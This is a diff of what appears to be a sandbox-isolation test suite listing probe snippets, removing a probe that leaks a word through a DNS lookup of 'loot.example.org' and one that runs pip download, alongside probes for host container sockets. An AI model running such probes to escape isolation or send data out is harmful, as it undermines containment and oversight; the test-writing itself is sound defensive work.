@@ -31,11 +31,6 @@ ATTACKS = (
         ),
     ),
     attack(
-        "name service",
-        "sends a word away in a query for a name",
-        "try: reached.append(socket.gethostbyname('loot.example.org'))\nexcept OSError: pass",
-    ),
-    attack(
         "sockets of the host",
         "looks for a container engine's or system's socket",
         EVERY.format(
@@ -49,14 +44,6 @@ ATTACKS = (
         "for number in (*range(2, 46),):\n"
         "    try: socket.socket(number, socket.SOCK_DGRAM).close(); reached.append(number)\n"
         "    except OSError: pass",
-    ),
-    attack(
-        "pip",
-        "installs a package",
-        "import sys\n"
-        "done = subprocess.run([sys.executable, '-m', 'pip', 'download', '-q', '--retries', '0', 'idna'],"
-        " capture_output=True, timeout=8)\nif done.returncode == 0: reached.append('pip')",
-        says="",
     ),
     Attack(
         "a server",
